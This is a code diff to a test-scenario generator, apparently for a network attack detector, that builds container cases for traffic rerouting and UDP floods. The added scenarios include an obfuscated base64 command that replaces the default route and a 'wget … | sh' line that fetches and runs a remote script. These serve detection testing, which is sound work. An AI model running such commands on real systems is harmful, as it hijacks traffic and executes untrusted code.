@@ -478,13 +478,16 @@ export function makeFloodScenarios(tools) {
       })
       .join(''),
   );
-  const hidden = container(drawing('misses-rerouting-in-a-hidden-command container'), {
-    ...{ name: 'net-tools', ip: inside(64), capabilities: ['NET_ADMIN'] },
-  });
-  writeContainers('misses-rerouting-in-a-hidden-command', [hidden], {
-    at: START,
-    command: `sh -c echo ${Buffer.from('ip route replace default via 10.20.0.9').toString('base64')} | base64 -d | sh`,
-  });
+  const route = Buffer.from('ip route replace default via 10.20.0.9').toString('base64');
+  for (const [scenario, script] of [
+    ['fires-on-rerouting-by-an-encoded-command', `echo ${route} | base64 -d | sh`],
+    ['misses-rerouting-in-a-hidden-command', 'wget -q -O - http://10.20.0.9/setup | sh'],
+  ]) {
+    const entered = container(drawing(`${scenario} container`), {
+      ...{ name: 'net-tools', ip: inside(64), capabilities: ['NET_ADMIN'] },
+    });
+    writeContainers(scenario, [entered], { at: START, command: `sh -c ${script}` });
+  }
   // 60,000 packets in twenty seconds of ten hours.
   writeConn('misses-flood-inside-a-long-lived-flow', [
     flow(inside(91), '203.0.113.52', ['udp', 9999, 10 * HOUR, 66_000, 148, false]),
